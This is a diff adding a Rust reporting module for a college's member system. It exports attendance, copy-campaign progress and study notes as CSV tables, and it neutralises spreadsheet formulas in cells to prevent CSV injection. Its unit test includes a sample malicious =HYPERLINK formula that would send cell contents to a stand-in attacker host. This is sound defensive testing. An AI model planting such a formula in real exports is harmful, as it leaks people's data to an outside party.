@@ -1,0 +1,309 @@
+//! Reports for the college: attendance per event, the 100-day copy campaign per member, and the
+//! study notes — as plain tables (headers + rows of text), which the command line writes as CSV
+//! or XLSX and the admin pages show. Attendance is a fact per event, never a score or a ranking.
+
+use chrono::{DateTime, FixedOffset, NaiveDate};
+
+use crate::catalog::Catalog;
+use crate::domain::{NoteStatus, distance_m};
+use crate::store::{CopyStore, MemberStore, NoteStore, SigninStore};
+
+/// A report: column headers (Chinese, as the college reads them) and rows of cells.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Table {
+    pub title: String,
+    pub headers: Vec<String>,
+    pub rows: Vec<Vec<String>>,
+    /// Columns that hold numbers (written as numbers in a spreadsheet; ids stay text even when
+    /// they are digits, so student numbers keep their leading zeros).
+    pub numeric: Vec<usize>,
+}
+
+impl Table {
+    /// A table with plain headers and no numeric columns.
+    pub fn new(title: &str, headers: &[&str], rows: Vec<Vec<String>>) -> Table {
+        Table {
+            title: title.into(),
+            headers: headers.iter().map(|h| h.to_string()).collect(),
+            rows,
+            numeric: vec![],
+        }
+    }
+
+    /// CSV in UTF-8 with a byte-order mark, so that Excel and WPS read the Chinese right. A cell
+    /// that a spreadsheet would run as a formula is neutralised (see [`spreadsheet_safe`]).
+    pub fn csv(&self) -> String {
+        let mut w = csv::Writer::from_writer(Vec::new());
+        // Writing to memory cannot fail.
+        let _ = w.write_record(self.headers.iter().map(|c| spreadsheet_safe(c).into_owned()));
+        for row in &self.rows {
+            let _ = w.write_record(row.iter().map(|c| spreadsheet_safe(c).into_owned()));
+        }
+        let bytes = w.into_inner().unwrap_or_default();
+        format!("\u{feff}{}", String::from_utf8_lossy(&bytes))
+    }
+}
+
+/// A cell as text a spreadsheet will not evaluate: one starting with `=`, `+`, `-`, `@`, a tab
+/// or a carriage return (a member's note `=HYPERLINK(...)`) gets a leading apostrophe, which
+/// Excel and WPS show as plain text (OWASP's advice for CSV injection).
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+fn when(t: DateTime<FixedOffset>) -> String {
+    t.format("%Y-%m-%d %H:%M").to_string()
+}
+
+fn yes(b: bool) -> String {
+    if b { "是" } else { "否" }.to_string()
+}
+
+/// Every event that opens between `from` and `to` (inclusive dates), one row per member in
+/// roster order: signed in or not, when, and for on-site events whether inside the geofence and
+/// the approximate distance (the stored location is coarse, about 1 km).
+pub async fn attendance(
+    store: &(impl MemberStore + SigninStore + ?Sized),
+    catalog: &Catalog,
+    from: NaiveDate,
+    to: NaiveDate,
+) -> anyhow::Result<Table> {
+    let members = store.members().await?;
+    let mut events: Vec<_> =
+        catalog.events.values().filter(|e| (from..=to).contains(&e.opens.date_naive())).collect();
+    events.sort_by_key(|e| (e.opens, e.id.clone()));
+    let mut rows = Vec::new();
+    for event in events {
+        let signins = store.signins_of_event(&event.id).await?;
+        for m in &members {
+            let signin = signins.iter().find(|s| s.member_id == m.member.id);
+            let (inside, distance) = match (signin.and_then(|s| s.location), &event.geofence) {
+                (Some(l), Some(g)) => (
+                    l.within_geofence.map(yes).unwrap_or_default(),
+                    format!("{:.0}", distance_m(l.lat, l.lon, g.lat, g.lon)),
+                ),
+                _ => (String::new(), String::new()),
+            };
+            rows.push(vec![
+                event.id.clone(),
+                event.title.clone(),
+                when(event.opens),
+                m.member.id.to_string(),
+                m.member.name.clone(),
+                yes(signin.is_some()),
+                signin.map(|s| when(s.at)).unwrap_or_default(),
+                inside,
+                distance,
+            ]);
+        }
+    }
+    Ok(Table {
+        title: format!("签到情况 {from} 至 {to}"),
+        headers: [
+            "活动编号",
+            "活动",
+            "开始时间",
+            "成员编号",
+            "姓名",
+            "已签到",
+            "签到时间",
+            "在活动地点",
+            "约距离（米）",
+        ]
+        .map(String::from)
+        .to_vec(),
+        rows,
+        numeric: vec![8],
+    })
+}
+
+/// The copy campaign per member in roster order: days done of the campaign's length and one
+/// column per day (✓ done). A member's own progress, in roster order, never sorted by it.
+pub async fn copies(
+    store: &(impl MemberStore + CopyStore + ?Sized),
+    catalog: &Catalog,
+    campaign: &str,
+) -> anyhow::Result<Table> {
+    let c = catalog
+        .campaigns
+        .get(campaign)
+        .ok_or_else(|| anyhow::anyhow!("no campaign {campaign} in the catalog"))?;
+    let mut headers: Vec<String> = ["成员编号", "姓名", "已完成天数", "总天数"].map(String::from).to_vec();
+    headers.extend((1..=c.days).map(|d| format!("第{d}天")));
+    let mut rows = Vec::new();
+    for m in store.members().await? {
+        let done: Vec<u32> = store.copies_of(&m.member.id, campaign).await?.iter().map(|k| k.day).collect();
+        let mut row =
+            vec![m.member.id.to_string(), m.member.name.clone(), done.len().to_string(), c.days.to_string()];
+        row.extend((1..=c.days).map(|d| if done.contains(&d) { "✓".to_string() } else { String::new() }));
+        rows.push(row);
+    }
+    Ok(Table { title: format!("{}（{}）", c.title, c.id), headers, rows, numeric: vec![2, 3] })
+}
+
+/// Study notes with a status (all statuses when `None`), oldest first.
+pub async fn notes(
+    store: &(impl MemberStore + NoteStore + ?Sized),
+    status: Option<NoteStatus>,
+) -> anyhow::Result<Table> {
+    let names: std::collections::HashMap<String, String> =
+        store.members().await?.into_iter().map(|m| (m.member.id.to_string(), m.member.name)).collect();
+    let statuses = match status {
+        Some(s) => vec![s],
+        None => vec![NoteStatus::Pending, NoteStatus::Approved, NoteStatus::Rejected],
+    };
+    let mut notes = Vec::new();
+    for s in statuses {
+        notes.extend(store.notes_with_status(s).await?);
+    }
+    notes.sort_by(|a, b| (a.at, &a.id).cmp(&(b.at, &b.id)));
+    let status_name = |s: NoteStatus| match s {
+        NoteStatus::Pending => "待审核",
+        NoteStatus::Approved => "已通过",
+        NoteStatus::Rejected => "已退回",
+    };
+    let rows = notes
+        .iter()
+        .map(|n| {
+            vec![
+                n.id.clone(),
+                n.page.clone(),
+                n.member_id.to_string(),
+                names.get(n.member_id.as_str()).cloned().unwrap_or_default(),
+                status_name(n.status).to_string(),
+                when(n.at),
+                n.review_reason.clone().unwrap_or_default(),
+                n.body.clone(),
+            ]
+        })
+        .collect();
+    Ok(Table {
+        title: "学习心得".into(),
+        headers: ["编号", "页面", "成员编号", "姓名", "状态", "提交时间", "审核意见", "内容"]
+            .map(String::from)
+            .to_vec(),
+        rows,
+        numeric: vec![],
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn csv_cells_that_would_be_formulas_are_written_as_text() {
+        let bodies = [
+            "=HYPERLINK(\"http://evil.example/?d=\"&A2&B2,\"点此\")",
+            "@SUM(A1:A9)",
+            "+1",
+            "-2",
+            "\tx",
+            "\rx",
+            "学习党章",
+        ];
+        let rows = bodies.iter().map(|b| vec![b.to_string()]).collect();
+        let csv = Table::new("notes", &["body"], rows).csv();
+        let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
+        let cells: Vec<String> = reader.records().map(|r| r.unwrap()[0].to_string()).collect();
+        for (cell, body) in cells.iter().zip(bodies) {
+            if body == "学习党章" {
+                assert_eq!(cell, body, "ordinary text is untouched");
+            } else {
+                assert_eq!(cell, &format!("'{body}"), "neutralised");
+            }
+        }
+    }
+}
+
+/// Aggregates for the public statistics page: counts only, never a name or a member id, so the
+/// export can be committed with the site. Participation per event and how far the campaigns
+/// have come, as a distribution (no ranking).
+#[derive(Debug, Clone, PartialEq, serde::Serialize, serde::Deserialize)]
+pub struct Stats {
+    pub generated: DateTime<FixedOffset>,
+    pub members: usize,
+    pub events: Vec<EventStats>,
+    pub campaigns: Vec<CampaignStats>,
+}
+
+#[derive(Debug, Clone, PartialEq, serde::Serialize, serde::Deserialize)]
+pub struct EventStats {
+    pub id: String,
+    pub title: String,
+    pub date: NaiveDate,
+    pub signed_in: usize,
+}
+
+#[derive(Debug, Clone, PartialEq, serde::Serialize, serde::Deserialize)]
+pub struct CampaignStats {
+    pub id: String,
+    pub title: String,
+    pub days: u32,
+    /// How many members have done how many days, in bands.
+    pub bands: Vec<Band>,
+    /// Copies handed in, all members together.
+    pub copies: usize,
+}
+
+#[derive(Debug, Clone, PartialEq, serde::Serialize, serde::Deserialize)]
+pub struct Band {
+    pub label: String,
+    pub members: usize,
+}
+
+/// The statistics of every event that has opened by `now` and of every campaign.
+pub async fn stats(
+    store: &(impl MemberStore + SigninStore + CopyStore + ?Sized),
+    catalog: &Catalog,
+    now: DateTime<FixedOffset>,
+) -> anyhow::Result<Stats> {
+    let roster = store.members().await?;
+    let mut events = Vec::new();
+    let mut declared: Vec<_> = catalog.events.values().filter(|e| e.opens <= now).collect();
+    declared.sort_by_key(|e| (e.opens, e.id.clone()));
+    for e in declared {
+        let signed_in = store.signins_of_event(&e.id).await?.len();
+        events.push(EventStats {
+            id: e.id.clone(),
+            title: e.title.clone(),
+            date: e.opens.date_naive(),
+            signed_in,
+        });
+    }
+    let mut campaigns = Vec::new();
+    for c in catalog.campaigns.values() {
+        let mut done = Vec::new();
+        for m in &roster {
+            done.push(store.copies_of(&m.member.id, &c.id).await?.len() as u32);
+        }
+        let quarter = c.days.div_ceil(4).max(1);
+        let mut bands =
+            vec![Band { label: "尚未开始".into(), members: done.iter().filter(|d| **d == 0).count() }];
+        for q in 0..4 {
+            let (lo, hi) = (q * quarter + 1, ((q + 1) * quarter).min(c.days));
+            if lo > hi {
+                continue;
+            }
+            let label = if hi == c.days {
+                format!("{lo}–{hi} 天（含全部完成）")
+            } else {
+                format!("{lo}–{hi} 天")
+            };
+            bands.push(Band { label, members: done.iter().filter(|d| (lo..=hi).contains(*d)).count() });
+        }
+        let copies = done.iter().map(|d| *d as usize).sum();
+        campaigns.push(CampaignStats {
+            id: c.id.clone(),
+            title: c.title.clone(),
+            days: c.days,
+            bands,
+            copies,
+        });
+    }
+    Ok(Stats { generated: now, members: roster.len(), events, campaigns })
+}
